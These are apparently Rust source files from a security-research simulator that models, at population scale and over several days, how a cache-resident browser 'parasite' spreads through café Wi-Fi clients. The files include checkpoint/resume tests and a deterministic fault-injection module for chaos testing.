        match run_campaign_with_checkpoint_ctx(&config, &path, &ctx) {
            Err(ExperimentError::Cancelled { completed_days }) => {
                assert_eq!(completed_days, 2);
            }
            other => panic!("expected cancellation after day 2, got {other:?}"),
        }

        // The checkpoint left behind is the valid day-2 state...
        let resumable = load_checkpoint(&path, &config).expect("valid checkpoint");
        assert_eq!(resumable.day, 2);
        // ...and a plain resubmission resumes byte-identically.
        let resumed = run_campaign_with_checkpoint(&config, &path).expect("resumed run");
        assert_eq!(resumed, reference);
        assert_eq!(resumed.to_json().to_string(), reference.to_json().to_string());

        // A token cancelled before day one stops the run before any work.
        let _ = std::fs::remove_file(&path);
        let stillborn = CancelToken::new();
        stillborn.cancel();
        let ctx = RunCtx { cancel: stillborn, ..RunCtx::default() };
        match run_campaign_with_checkpoint_ctx(&config, &path, &ctx) {
            Err(ExperimentError::Cancelled { completed_days: 0 }) => {}
            other => panic!("expected immediate cancellation, got {other:?}"),
        }
        assert!(!path.exists(), "no checkpoint before the first completed day");
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn day_sink_streams_every_day_and_replays_on_resume() {
        let dir = std::env::temp_dir().join(format!(
            "mp-checkpoint-test-{}-sink",
            std::process::id()
        ));
        std::fs::create_dir_all(&dir).expect("temp dir");
        let path = dir.join("sink.ckpt.json");
        let _ = std::fs::remove_file(&path);

        let config = churn_config();
        let seen = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
        let sink_ctx = |seen: &std::sync::Arc<std::sync::Mutex<Vec<u32>>>| {
            let seen = seen.clone();
            RunCtx {
                day_sink: Some(DaySink::new(move |stats: &DayStats| {
                    seen.lock().expect("sink lock").push(stats.day);
                })),
                ..RunCtx::default()
            }
        };

        // A fresh run streams each day exactly once, in order.
        run_multiday(&config, &sink_ctx(&seen), None).expect("fresh run");
        assert_eq!(*seen.lock().expect("sink lock"), vec![1, 2, 3, 4, 5]);

        // A resumed run first replays the checkpointed days so the stream is
        // complete from the watcher's point of view.
        let mut state = CampaignState::fresh(&config);
        let visit_probs = seat_visit_probs(&config);
        for day in 1..=2 {
            run_day(&config, &mut state, day, None, visit_probs.as_deref()).expect("day runs");
        }
        write_checkpoint(&path, &config, &state).expect("snapshot written");
        seen.lock().expect("sink lock").clear();
        run_campaign_with_checkpoint_ctx(&config, &path, &sink_ctx(&seen))
            .expect("resumed run");
        assert_eq!(*seen.lock().expect("sink lock"), vec![1, 2, 3, 4, 5]);
        let _ = std::fs::remove_dir_all(&dir);
    }
}
