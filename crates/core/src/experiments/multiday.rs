//! Multi-day persistent campaigns: the Figure 3 churn model applied to the
//! population-scale café-AP fleet.
//!
//! The paper's core claim is *persistence* — a parasite that survives across
//! browsing sessions and days. The classic `campaign_fleet` experiment is a
//! single homogeneous snapshot; this module runs it longitudinally:
//!
//! * **Seats, not sessions.** The campaign tracks `fleet_clients` *seats*.
//!   Each simulated day a `fleet_churn` fraction of every seat's occupants
//!   departs and is replaced by a fresh (clean-cached) arrival, and a small
//!   share of infected residents clears their browser cache (Table III says
//!   only "clear cookies / site data" actually removes the parasite — most
//!   refreshes do not, which is why the daily clear rate is low).
//! * **Figure 3 object churn.** The campaign's target object is a
//!   [`ChurningObject`] in the [`StabilityClass::SlowChurn`] class: each day
//!   it may be renamed by its site, which breaks every parasite riding on it
//!   (the infection population collapses and the master has to re-prepare
//!   the new name — the rise-and-fall dynamics of Figure 3).
//! * **Daily exposure.** Every seat whose cache is clean browses through the
//!   hostile café AP again and goes through the packet-level injection race
//!   (the same per-AP simulations the snapshot fleet runs, optionally under
//!   per-AP heterogeneity profiles). Infected seats carry their parasite
//!   forward without touching the network — persistence costs no packets.
//! * **Checkpoint/resume.** Day state is a pure function of the campaign
//!   seed and the previous day's state (per-day RNG streams are *derived*,
//!   never carried), so a compact JSON checkpoint written after each day
//!   allows a killed N-day campaign to resume and produce a byte-identical
//!   final artifact.
//!
//! The day loop itself lives in the `distrib` module as the full-coverage
//! special case of a *shard*: each AP owns a statically pinned seat slice
//! and a private per-day RNG stream, so any contiguous AP range runs
//! independently (on worker processes or machines) and partial outcomes
//! merge back into the identical artifact.
//!
//! [`ChurningObject`]: mp_webgen::ChurningObject
//! [`StabilityClass::SlowChurn`]: mp_webgen::StabilityClass::SlowChurn

use super::campaign::{mix_seed, CampaignFleetResult};
use super::distrib::{
    load_checkpoint, run_shard, validate_campaign, ShardOutcome, ShardPlan,
};
use super::{ExperimentError, RunConfig, RunCtx};
use crate::json::{Json, ToJson};
use mp_netsim::dist::Dist;
use rand::rngs::StdRng;
use rand::SeedableRng;
use serde::{Deserialize, Serialize};
use std::path::Path;

/// Seed-stream tag for per-day RNG streams: day `d` draws from
/// `mix_seed(campaign_seed, DAY_TAG ^ d)`, disjoint from the per-AP, shard
/// and profile streams of the campaign module.
pub(super) const DAY_TAG: u64 = 0xda75_0000_0000_0000;

/// Seed-stream tag for the target object's initial content hash.
pub(super) const TARGET_TAG: u64 = 0x7a26_e700_0000_0000;

/// Seed-stream tag for the per-seat daily-visit probability draw
/// (`fleet_visit_prob < 1`): one [`Dist::Triangular`] sample per seat,
/// disjoint from the day/target/AP/profile/shard streams (collision-tested
/// alongside them in the campaign module).
pub(super) const VISIT_TAG: u64 = 0x7151_7000_0000_0000;

/// Daily probability that an *infected* seat clears its browser cache (the
/// only Table III refresh method that removes a Cache-API parasite). Kept
/// deliberately low: the paper's point is that ordinary refreshing does not
/// help. Shared with the attack-surface sweep, whose steady-state fixed
/// point uses the same daily cure rate.
pub(super) const DAILY_CACHE_CLEAR: f64 = 0.01;

// ---------------------------------------------------------------------------
// Day statistics
// ---------------------------------------------------------------------------

/// What happened on one simulated day of a multi-day campaign.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct DayStats {
    /// The day number (1-based).
    pub day: u32,
    /// Seats whose occupant departed (their cache leaves with them).
    pub departures: usize,
    /// Fresh clean arrivals (equals `departures`: the café stays full).
    pub arrivals: usize,
    /// Infected residents who cleared their browser cache today.
    pub cache_clears: usize,
    /// Whether the target object was renamed by its site today (Figure 3
    /// churn): a rotation breaks every parasite riding on the old name.
    pub object_rotated: bool,
    /// Infections broken by today's object rotation.
    pub rotation_cured: usize,
    /// Clean seats that browsed through the hostile AP and were raced.
    pub exposed: usize,
    /// Seats that newly picked up the parasite today.
    pub newly_infected: usize,
    /// AP simulations that failed today (event budget); their exposed seats
    /// stay clean.
    pub failed_aps: usize,
    /// Infected population at the end of the day.
    pub infected: usize,
    /// Clean population at the end of the day.
    pub clean: usize,
    /// Simulator events spent on today's exposures.
    pub events: u64,
}

impl ToJson for DayStats {
    fn to_json(&self) -> Json {
        Json::obj([
            ("day", self.day.to_json()),
            ("departures", self.departures.to_json()),
            ("arrivals", self.arrivals.to_json()),
            ("cache_clears", self.cache_clears.to_json()),
            ("object_rotated", self.object_rotated.to_json()),
            ("rotation_cured", self.rotation_cured.to_json()),
            ("exposed", self.exposed.to_json()),
            ("newly_infected", self.newly_infected.to_json()),
            ("failed_aps", self.failed_aps.to_json()),
            ("infected", self.infected.to_json()),
            ("clean", self.clean.to_json()),
            ("events", self.events.to_json()),
        ])
    }
}

impl DayStats {
    /// Reads a day back from its [`ToJson`] form. The [`ToJson`] output is
    /// the per-day wire format shared by the checkpoint codec and the
    /// service daemon's `day` stream messages, so clients (`mp_service`)
    /// decode with this too.
    pub fn from_json(json: &Json) -> Option<DayStats> {
        let usize_of = |key: &str| json.get(key).and_then(Json::as_u64).map(|n| n as usize);
        Some(DayStats {
            day: json.get("day").and_then(Json::as_u64)? as u32,
            departures: usize_of("departures")?,
            arrivals: usize_of("arrivals")?,
            cache_clears: usize_of("cache_clears")?,
            object_rotated: json.get("object_rotated").and_then(Json::as_bool)?,
            rotation_cured: usize_of("rotation_cured")?,
            exposed: usize_of("exposed")?,
            newly_infected: usize_of("newly_infected")?,
            failed_aps: usize_of("failed_aps")?,
            infected: usize_of("infected")?,
            clean: usize_of("clean")?,
            events: json.get("events").and_then(Json::as_u64)?,
        })
    }
}

// ---------------------------------------------------------------------------
// The (single-process) campaign loop
// ---------------------------------------------------------------------------

/// Runs a multi-day churn campaign, optionally checkpointing after every
/// completed day. Called from the registry runner (`fleet_days > 1`, no
/// checkpoint) and from [`run_campaign_with_checkpoint`]. This is the
/// full-coverage special case of the shard engine: one [`ShardPlan`]
/// spanning every AP, run to the configured horizon in this process.
pub(super) fn run_multiday(
    config: &RunConfig,
    ctx: &RunCtx,
    checkpoint: Option<&Path>,
) -> Result<CampaignFleetResult, ExperimentError> {
    validate_campaign(config)?;
    let plan = ShardPlan::full(config);
    let mut outcome = match checkpoint {
        Some(path) if path.exists() => load_checkpoint(path, config)?,
        _ => ShardOutcome::fresh(config, plan)?,
    };
    run_shard(config, plan, ctx, &mut outcome, checkpoint, config.fleet_days.max(1))?;
    outcome.into_fleet_result(config)
}

/// Draws the per-seat daily-visit probabilities, or `None` at the default
/// `fleet_visit_prob = 1.0` (every clean seat browses every day — the
/// classic trajectory, byte-identical to pre-visit-model campaigns).
///
/// `fleet_visit_prob` is the *typical* (modal) habit; individual seats
/// spread around it with a seeded [`Dist::Triangular`] draw in per-mille
/// resolution — lo at half the mode, hi at 1.5× capped at certainty — so
/// regulars and rare visitors coexist. The draw composes with
/// `--fleet-hetero` (per-AP profiles) because the streams are disjoint:
/// seats own *whether* they show up, APs own *how* the race plays out.
/// Indexed by global seat, so every shard computes the same habits.
pub(super) fn seat_visit_probs(config: &RunConfig) -> Option<Vec<f64>> {
    if config.fleet_visit_prob >= 1.0 {
        return None;
    }
    let mut rng = StdRng::seed_from_u64(mix_seed(config.seed, VISIT_TAG));
    let mode = (config.fleet_visit_prob * 1_000.0).round() as u64;
    let dist = Dist::Triangular {
        lo: mode / 2,
        mode,
        hi: (mode + mode / 2).min(1_000),
    };
    Some(
        (0..config.fleet_clients)
            .map(|_| dist.sample(&mut rng) as f64 / 1_000.0)
            .collect(),
    )
}

// ---------------------------------------------------------------------------
// Checkpointed entry points
// ---------------------------------------------------------------------------

/// Runs a multi-day campaign with per-day checkpointing: after every
/// completed day the full campaign state is written to `checkpoint`
/// (atomically: temp file + rename), and a run finding an existing
/// checkpoint resumes from it — killing an N-day campaign after day *k* and
/// rerunning with the same configuration yields a byte-identical final
/// artifact.
///
/// This entry point *always* runs the churn model, even at `fleet_days = 1`
/// (one churn day is not the classic single-snapshot sweep: it draws from
/// the per-day seed streams and the target object may rotate). The
/// `paper-report` CLI therefore requires `--fleet-days >= 2` with
/// `--fleet-checkpoint`.
///
/// The checkpoint is a compact hand-rolled JSON document (`parasite::json`):
/// the campaign configuration fingerprint, the completed-day count, the
/// Figure 3 target-object state, per-AP-range seat bitmaps (hex-encoded
/// 64-seat words) and the day-by-day statistics — the same partial-
/// checkpoint codec shard workers emit, restricted to full coverage. A
/// checkpoint written under a different configuration is rejected with
/// [`ExperimentError::Checkpoint`].
pub fn run_campaign_with_checkpoint(
    config: &RunConfig,
    checkpoint: &Path,
) -> Result<CampaignFleetResult, ExperimentError> {
    let ctx = RunCtx::for_sweep(std::slice::from_ref(config));
    run_campaign_with_checkpoint_ctx(config, checkpoint, &ctx)
}

/// [`run_campaign_with_checkpoint`] with a caller-supplied execution
/// context: the campaign service daemon routes its shared budget, the
/// per-run cancel token and the per-day streaming sink through here. A
/// cancelled run returns [`ExperimentError::Cancelled`] at the next day
/// boundary, leaving the checkpoint of the last completed day on disk —
/// resubmitting the same config against that checkpoint resumes
/// byte-identically.
pub fn run_campaign_with_checkpoint_ctx(
    config: &RunConfig,
    checkpoint: &Path,
    ctx: &RunCtx,
) -> Result<CampaignFleetResult, ExperimentError> {
    run_multiday(config, ctx, Some(checkpoint))
}

#[cfg(test)]
mod tests {
    use super::super::distrib::{
        decode_bitmap, encode_bitmap, load_checkpoint, run_shard, write_checkpoint, ShardOutcome,
        ShardPlan,
    };
    use super::super::{CancelToken, DaySink, ExperimentId, Registry, RunConfig};
    use super::*;

    fn churn_config() -> RunConfig {
        RunConfig {
            seed: 7,
            fleet_clients: 400,
            fleet_aps: 4,
            fleet_days: 5,
            fleet_churn: 0.2,
            fleet_jobs: 1,
            ..RunConfig::default()
        }
    }

    /// Runs the full-coverage shard to `days` completed days — the state a
    /// kill after day `days` would have left checkpointed.
    fn snapshot_after(config: &RunConfig, days: u32) -> ShardOutcome {
        let plan = ShardPlan::full(config);
        let mut outcome = ShardOutcome::fresh(config, plan).expect("fresh state");
        run_shard(config, plan, &RunCtx::default(), &mut outcome, None, days)
            .expect("days run");
        outcome
    }

    #[test]
    fn multiday_campaign_carries_infections_forward() {
        let artifact = Registry::get(ExperimentId::CampaignFleet).run(&churn_config());
        let result = artifact.data.as_campaign_fleet().expect("campaign artifact");
        assert_eq!(result.day_stats.len(), 5);
        assert_eq!(result.clients, 400);
        // Day one exposes the whole (clean) population.
        assert_eq!(result.day_stats[0].exposed, 400);
        // Later days only race the clean remainder: persistence costs no
        // packets, so exposure shrinks once most seats are infected.
        assert!(result.day_stats[1].exposed < 400);
        for day in &result.day_stats {
            assert_eq!(day.infected + day.clean, 400);
            assert_eq!(day.arrivals, day.departures);
        }
        // The final population matches the last day's snapshot.
        let last = result.day_stats.last().expect("five days");
        assert_eq!(result.infected_clients, last.infected);
        assert_eq!(result.clean_clients, last.clean);
        // The day table renders and the JSON carries the day series.
        assert!(artifact.render_text().contains("day-by-day churn dynamics"));
        assert!(artifact.to_json().to_string().contains("\"days\""));
    }

    #[test]
    fn multiday_campaign_is_deterministic_and_shard_independent() {
        let config = churn_config();
        let first = Registry::get(ExperimentId::CampaignFleet).run(&config);
        let second = Registry::get(ExperimentId::CampaignFleet).run(&config);
        assert_eq!(first, second);
        // Per-AP seat slices and RNG streams make fleet_shards a scheduling
        // hint for the multi-day loop: every number in the artifact is
        // identical across shard counts (only the reported `shards` field
        // echoes the request).
        let sharded = Registry::get(ExperimentId::CampaignFleet)
            .run(&RunConfig { fleet_shards: 4, ..config });
        let (a, b) = (
            first.data.as_campaign_fleet().expect("campaign artifact"),
            sharded.data.as_campaign_fleet().expect("campaign artifact"),
        );
        assert_eq!(b.shards, 4);
        assert_eq!(a.day_stats, b.day_stats);
        assert_eq!(a.infected_clients, b.infected_clients);
        assert_eq!(a.total_events, b.total_events);
    }

    #[test]
    fn heterogeneous_multiday_campaign_runs_deterministically() {
        let hetero = RunConfig { fleet_hetero: true, ..churn_config() };
        let first = Registry::get(ExperimentId::CampaignFleet).run(&hetero);
        let drawn = first.data.as_campaign_fleet().expect("campaign artifact");
        // Heterogeneity redistributes clients and can flip race outcomes,
        // but conservation still holds and the attack still lands somewhere.
        assert_eq!(drawn.infected_clients + drawn.clean_clients, 400);
        assert!(drawn.infected_clients > 0);
        assert_eq!(drawn.day_stats.len(), 5);
        // Deterministic per seed, byte for byte.
        let again = Registry::get(ExperimentId::CampaignFleet).run(&hetero);
        assert_eq!(first, again);
        assert_eq!(first.to_json().to_string(), again.to_json().to_string());
    }

    #[test]
    fn invalid_churn_fraction_is_a_config_error() {
        let config = RunConfig { fleet_churn: 1.5, ..churn_config() };
        match Registry::get(ExperimentId::CampaignFleet).try_run(&config) {
            Err(ExperimentError::Config(message)) => assert!(message.contains("fleet_churn")),
            other => panic!("expected a config error, got {other:?}"),
        }
    }

    #[test]
    fn bitmap_round_trips_and_rejects_bad_padding() {
        let seats: Vec<bool> = (0..130).map(|i| i % 3 == 0).collect();
        let encoded = encode_bitmap(&seats);
        assert_eq!(decode_bitmap(&encoded, 130), Some(seats.clone()));
        // Wrong population size: word count no longer matches.
        assert_eq!(decode_bitmap(&encoded, 64), None);
        // Set a padding bit beyond the population: rejected.
        let mut words: Vec<Json> = encoded.as_array().expect("array").to_vec();
        words[2] = Json::Str(format!("{:016x}", u64::MAX));
        assert_eq!(decode_bitmap(&Json::Arr(words), 130), None);
    }

    #[test]
    fn checkpoint_kill_and_resume_is_byte_identical() {
        let dir = std::env::temp_dir().join(format!(
            "mp-checkpoint-test-{}-{}",
            std::process::id(),
            "resume"
        ));
        std::fs::create_dir_all(&dir).expect("temp dir");
        let path = dir.join("campaign.ckpt.json");
        let _ = std::fs::remove_file(&path);

        let config = churn_config();
        // The uninterrupted reference.
        let reference = run_campaign_with_checkpoint(&config, &path).expect("reference run");
        // "Kill after day 2": run only two days, leaving the checkpoint.
        let _ = std::fs::remove_file(&path);
        let partial = RunConfig { fleet_days: 2, ..config };
        let two_days = run_campaign_with_checkpoint(&partial, &path).expect("partial run");
        assert_eq!(two_days.day_stats.len(), 2);
        // Resuming under the full configuration must not accept the partial
        // run's checkpoint (different fleet_days fingerprint)...
        match run_campaign_with_checkpoint(&config, &path) {
            Err(ExperimentError::Checkpoint(message)) => {
                assert!(message.contains("different campaign configuration"));
            }
            other => panic!("expected a checkpoint mismatch, got {other:?}"),
        }

        // ...so simulate the real kill: run the full config, snapshot the
        // checkpoint after day 2, then resume from that snapshot.
        let _ = std::fs::remove_file(&path);
        let full = run_campaign_with_checkpoint(&config, &path).expect("full run");
        assert_eq!(full, reference);
        // Rewind the checkpoint to day 2 by re-running the day loop fresh
        // under the *full* fingerprint and capturing the intermediate state.
        let _ = std::fs::remove_file(&path);
        let snapshot_path = dir.join("campaign.day2.json");
        write_checkpoint(&snapshot_path, &config, &snapshot_after(&config, 2))
            .expect("snapshot written");
        std::fs::rename(&snapshot_path, &path).expect("install snapshot");
        let resumed = run_campaign_with_checkpoint(&config, &path).expect("resumed run");
        assert_eq!(resumed, reference, "resume must be byte-identical");
        assert_eq!(
            resumed.to_json().to_string(),
            reference.to_json().to_string(),
            "down to the JSON wire form"
        );

        // A checkpoint at the horizon resumes to the same result without
        // re-running any day.
        let finished = run_campaign_with_checkpoint(&config, &path).expect("finished resume");
        assert_eq!(finished, reference);
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn resume_accepts_different_scheduling_hints() {
        // fleet_jobs and fleet_shards are pure scheduling hints — the
        // fingerprint must not pin them, so a checkpoint written under
        // `--jobs 1` resumes under a thread pool and different shard counts
        // with byte-identical output.
        let dir = std::env::temp_dir().join(format!(
            "mp-checkpoint-test-{}-hints",
            std::process::id()
        ));
        std::fs::create_dir_all(&dir).expect("temp dir");
        let path = dir.join("campaign.ckpt.json");
        let _ = std::fs::remove_file(&path);

        let config = churn_config();
        let reference = run_campaign_with_checkpoint(&config, &path).expect("reference run");

        // Snapshot day 2 under the single-threaded config...
        write_checkpoint(&path, &config, &snapshot_after(&config, 2))
            .expect("snapshot written");

        // ...and resume under different jobs/shards. Only the echoed
        // `shards` field may differ from the reference.
        let hinted = RunConfig { fleet_jobs: 4, fleet_shards: 2, ..config };
        let resumed = run_campaign_with_checkpoint(&hinted, &path).expect("hinted resume");
        assert_eq!(resumed.shards, 2);
        let normalized = CampaignFleetResult { shards: reference.shards, ..resumed };
        assert_eq!(normalized, reference, "scheduling hints must not change the trajectory");
        assert_eq!(
            normalized.to_json().to_string(),
            reference.to_json().to_string(),
            "down to the JSON wire form"
        );
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn concurrent_checkpoint_writers_do_not_collide() {
        // Two writers pointed at the same path race; unique temp names keep
        // every rename whole-file, so the survivor is always one writer's
        // complete document — never an interleaving — and no temp files leak.
        let dir = std::env::temp_dir().join(format!(
            "mp-checkpoint-test-{}-writers",
            std::process::id()
        ));
        std::fs::create_dir_all(&dir).expect("temp dir");
        let path = dir.join("campaign.ckpt.json");
        let _ = std::fs::remove_file(&path);

        let config = churn_config();
        let one_day = snapshot_after(&config, 1);
        let two_days = snapshot_after(&config, 2);

        std::thread::scope(|scope| {
            for _ in 0..4 {
                for state in [&one_day, &two_days] {
                    scope.spawn(|| {
                        for _ in 0..8 {
                            write_checkpoint(&path, &config, state).expect("write succeeds");
                        }
                    });
                }
            }
        });

        // The surviving file is a valid, complete checkpoint of one of the
        // two states.
        let resumed = load_checkpoint(&path, &config).expect("valid checkpoint survives");
        assert!(resumed.completed_days() == 1 || resumed.completed_days() == 2);
        let expected = if resumed.completed_days() == 1 { &one_day } else { &two_days };
        assert_eq!(&resumed, expected);
        // No orphaned temp files remain.
        let leftovers: Vec<_> = std::fs::read_dir(&dir)
            .expect("dir listing")
            .filter_map(|entry| entry.ok())
            .filter(|entry| entry.file_name().to_string_lossy().contains(".tmp"))
            .collect();
        assert!(leftovers.is_empty(), "temp files leaked: {leftovers:?}");
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn corrupt_checkpoints_are_typed_errors() {
        let dir = std::env::temp_dir().join(format!("mp-checkpoint-test-{}-bad", std::process::id()));
        std::fs::create_dir_all(&dir).expect("temp dir");
        let path = dir.join("bad.ckpt.json");
        std::fs::write(&path, "{\"kind\": \"something else\"}").expect("write");
        match run_campaign_with_checkpoint(&churn_config(), &path) {
            Err(ExperimentError::Checkpoint(message)) => {
                assert!(message.contains("not a valid campaign checkpoint"));
            }
            other => panic!("expected a checkpoint error, got {other:?}"),
        }
        std::fs::write(&path, "not json at all").expect("write");
        assert!(matches!(
            run_campaign_with_checkpoint(&churn_config(), &path),
            Err(ExperimentError::Checkpoint(_))
        ));
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn visit_probability_is_deterministic_and_reduces_exposure() {
        let config = RunConfig { fleet_visit_prob: 0.4, ..churn_config() };
        let first = Registry::get(ExperimentId::CampaignFleet).run(&config);
        let second = Registry::get(ExperimentId::CampaignFleet).run(&config);
        assert_eq!(first, second);
        assert_eq!(first.to_json().to_string(), second.to_json().to_string());

        // With a ~40% daily habit, day one races only the visiting subset —
        // strictly fewer than the whole clean population, but not nobody.
        let partial = first.data.as_campaign_fleet().expect("campaign artifact");
        let full = Registry::get(ExperimentId::CampaignFleet).run(&churn_config());
        let everyone = full.data.as_campaign_fleet().expect("campaign artifact");
        assert_eq!(everyone.day_stats[0].exposed, 400);
        assert!(partial.day_stats[0].exposed < 400);
        assert!(partial.day_stats[0].exposed > 0);

        // The draw composes with per-AP heterogeneity deterministically:
        // the streams are disjoint, so turning hetero on does not reshuffle
        // anything except through the simulated races themselves.
        let hetero = RunConfig { fleet_hetero: true, ..config };
        let drawn = Registry::get(ExperimentId::CampaignFleet).run(&hetero);
        assert_eq!(drawn, Registry::get(ExperimentId::CampaignFleet).run(&hetero));

        // An explicit 1.0 is the classic trajectory, byte for byte.
        let certain = RunConfig { fleet_visit_prob: 1.0, ..churn_config() };
        let classic = Registry::get(ExperimentId::CampaignFleet).run(&certain);
        assert_eq!(classic.to_json().to_string(), full.to_json().to_string());
    }

    #[test]
    fn invalid_visit_probability_is_a_config_error() {
        for bad in [1.5, -0.1] {
            let config = RunConfig { fleet_visit_prob: bad, ..churn_config() };
            match Registry::get(ExperimentId::CampaignFleet).try_run(&config) {
                Err(ExperimentError::Config(message)) => {
                    assert!(message.contains("fleet_visit_prob"));
                }
                other => panic!("expected a config error, got {other:?}"),
            }
        }
    }

    #[test]
    fn cancelled_campaign_resumes_byte_identically() {
        // Cancel lands on a day boundary and leaves the last completed day's
        // checkpoint; resubmitting the same config resumes to an artifact
        // byte-identical to the uninterrupted reference run.
        let dir = std::env::temp_dir().join(format!(
            "mp-checkpoint-test-{}-cancel",
            std::process::id()
        ));
        std::fs::create_dir_all(&dir).expect("temp dir");
        let reference_path = dir.join("reference.ckpt.json");
        let path = dir.join("cancelled.ckpt.json");
        let _ = std::fs::remove_file(&reference_path);
        let _ = std::fs::remove_file(&path);

        let config = churn_config();
        let reference =
            run_campaign_with_checkpoint(&config, &reference_path).expect("reference run");

        // Cancel from inside the day sink after day 2 completes: the request
        // is observed at the top of the day-3 iteration.
        let cancel = CancelToken::new();
        let trigger = cancel.clone();
        let ctx = RunCtx {
            day_sink: Some(DaySink::new(move |stats| {
                if stats.day == 2 {
                    trigger.cancel();
                }
            })),
            cancel: cancel.clone(),
            ..RunCtx::default()
        };
        match run_campaign_with_checkpoint_ctx(&config, &path, &ctx) {
            Err(ExperimentError::Cancelled { completed_days }) => {
                assert_eq!(completed_days, 2);
            }
            other => panic!("expected cancellation after day 2, got {other:?}"),
        }

        // The checkpoint left behind is the valid day-2 state...
        let resumable = load_checkpoint(&path, &config).expect("valid checkpoint");
        assert_eq!(resumable.completed_days(), 2);
        // ...and a plain resubmission resumes byte-identically.
        let resumed = run_campaign_with_checkpoint(&config, &path).expect("resumed run");
        assert_eq!(resumed, reference);
        assert_eq!(resumed.to_json().to_string(), reference.to_json().to_string());

        // A token cancelled before day one stops the run before any work.
        let _ = std::fs::remove_file(&path);
        let stillborn = CancelToken::new();
        stillborn.cancel();
        let ctx = RunCtx { cancel: stillborn, ..RunCtx::default() };
        match run_campaign_with_checkpoint_ctx(&config, &path, &ctx) {
            Err(ExperimentError::Cancelled { completed_days: 0 }) => {}
            other => panic!("expected immediate cancellation, got {other:?}"),
        }
        assert!(!path.exists(), "no checkpoint before the first completed day");
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn day_sink_streams_every_day_and_replays_on_resume() {
        let dir = std::env::temp_dir().join(format!(
            "mp-checkpoint-test-{}-sink",
            std::process::id()
        ));
        std::fs::create_dir_all(&dir).expect("temp dir");
        let path = dir.join("sink.ckpt.json");
        let _ = std::fs::remove_file(&path);

        let config = churn_config();
        let seen = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
        let sink_ctx = |seen: &std::sync::Arc<std::sync::Mutex<Vec<u32>>>| {
            let seen = seen.clone();
            RunCtx {
                day_sink: Some(DaySink::new(move |stats: &DayStats| {
                    seen.lock().expect("sink lock").push(stats.day);
                })),
                ..RunCtx::default()
            }
        };

        // A fresh run streams each day exactly once, in order.
        run_multiday(&config, &sink_ctx(&seen), None).expect("fresh run");
        assert_eq!(*seen.lock().expect("sink lock"), vec![1, 2, 3, 4, 5]);

        // A resumed run first replays the checkpointed days so the stream is
        // complete from the watcher's point of view.
        write_checkpoint(&path, &config, &snapshot_after(&config, 2))
            .expect("snapshot written");
        seen.lock().expect("sink lock").clear();
        run_campaign_with_checkpoint_ctx(&config, &path, &sink_ctx(&seen))
            .expect("resumed run");
        assert_eq!(*seen.lock().expect("sink lock"), vec![1, 2, 3, 4, 5]);
        let _ = std::fs::remove_dir_all(&dir);
    }
}
