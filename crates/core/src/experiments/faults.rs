//! Deterministic fault injection for the distributed-campaign paths.
//!
//! Chaos tests are only worth having when their chaos is reproducible. The
//! `MP_FAULT_PLAN` environment variable carries a seeded fault plan — a
//! comma-separated list of `kind@sequence` entries such as
//! `crash@2,hang@5,garble@1,torn@1,seed=7` — that the `shard-worker`
//! process loop, the `distribute` coordinator and the daemon's
//! `shard_submit` path all consult. Each entry arms exactly one fault at a
//! 1-based position in a *global* sequence:
//!
//! * `crash@n` — the process serving the `n`-th shard assignment exits with
//!   code 3 before replying (a worker death / OOM kill).
//! * `hang@n` — the process serving the `n`-th assignment sleeps
//!   indefinitely instead of replying (a wedged worker the coordinator must
//!   detect via its shard timeout).
//! * `garble@n` — the `n`-th assignment's reply line is truncated at a
//!   seeded cut point (a torn pipe / dropped ssh connection mid-line).
//! * `torn@n` — the coordinator's `n`-th journal write is torn: a truncated
//!   document lands at the final path and the coordinator dies (a power cut
//!   mid-write; the journal scan must discard the fragment on resume).
//!
//! Workers are fresh processes (one per assignment), so a process-local
//! counter cannot number the global sequence. When `MP_FAULT_DIR` names a
//! shared directory, sequence numbers are claimed *cross-process* by
//! atomically creating `assign-NNNNNN` / `journal-NNNNNN` marker files
//! (`create_new` is the atomic claim, the same trick the old crash latch
//! used); the `distribute` coordinator provisions such a directory
//! automatically and hands it to its children. Without a directory the plan
//! falls back to process-local atomic counters (the daemon's in-process
//! case). Either way a claimed fault stays claimed: re-running with the
//! same directory cannot re-fire a spent fault, which is exactly what a
//! resume-after-chaos test wants.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::OnceLock;

/// Environment variable carrying the fault-plan spec.
pub const FAULT_PLAN_ENV: &str = "MP_FAULT_PLAN";

/// Environment variable naming the shared claim directory that makes the
/// fault sequence global across worker processes.
pub const FAULT_DIR_ENV: &str = "MP_FAULT_DIR";

/// Seed-stream tag for the garble cut-point draws.
pub(super) const GARBLE_TAG: u64 = 0x9a2b_1e00_0000_0000;

/// One kind of injected fault.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FaultKind {
    /// Exit with code 3 before replying.
    Crash,
    /// Sleep indefinitely instead of replying.
    Hang,
    /// Truncate the reply line at a seeded cut point.
    Garble,
    /// Tear a journal write: publish a truncated document, then die.
    Torn,
}

impl FaultKind {
    fn parse(name: &str) -> Option<FaultKind> {
        match name {
            "crash" => Some(FaultKind::Crash),
            "hang" => Some(FaultKind::Hang),
            "garble" => Some(FaultKind::Garble),
            "torn" => Some(FaultKind::Torn),
            _ => None,
        }
    }
}

/// A parsed, armed fault plan. `crash`/`hang`/`garble` entries index the
/// assignment sequence (claimed by [`claim_assignment`]); `torn` entries
/// index the journal-write sequence (claimed by [`claim_journal`]). The two
/// sequences are independent, so a plan can tear journal write 1 while
/// assignment 1 runs clean.
///
/// [`claim_assignment`]: FaultPlan::claim_assignment
/// [`claim_journal`]: FaultPlan::claim_journal
#[derive(Debug)]
pub struct FaultPlan {
    /// Faults armed on the shard-assignment sequence, by 1-based position.
    assignment: BTreeMap<u64, FaultKind>,
    /// Faults armed on the journal-write sequence, by 1-based position.
    journal: BTreeMap<u64, FaultKind>,
    /// Seed of the garble cut-point draws.
    seed: u64,
    /// Shared claim directory; `None` falls back to the local counters.
    dir: Option<PathBuf>,
    /// Process-local assignment counter (no shared directory).
    local_assignment: AtomicU64,
    /// Process-local journal counter (no shared directory).
